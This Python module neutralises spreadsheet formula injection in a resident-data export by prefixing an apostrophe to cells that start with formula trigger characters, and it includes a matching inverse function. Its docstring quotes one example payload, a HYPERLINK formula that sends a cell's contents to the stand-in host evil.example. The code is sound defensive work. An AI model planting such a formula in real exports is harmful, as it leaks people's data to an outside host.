"""Spreadsheet cells written from user text: always text, never a formula.

A resident who signs up as `=HYPERLINK("http://evil.example/?d="&B2,"click me")` would otherwise be a live
formula in the exports staff open in Excel or WPS (openpyxl, under tablib and ours, stores any string that
starts with "=" as a formula). OWASP's rule for CSV injection, applied to every export (the
import-export resources, the dashboards' workbooks, the API's .xlsx): a string starting with = + - @, a tab
or a carriage return gets a leading apostrophe, so it is stored, shown and re-imported as plain text.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value):
    """`value` made safe for a spreadsheet cell; anything that is not a string is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def from_text_cell(value):
    """The inverse of `text_cell` for a value read back from an imported sheet."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value
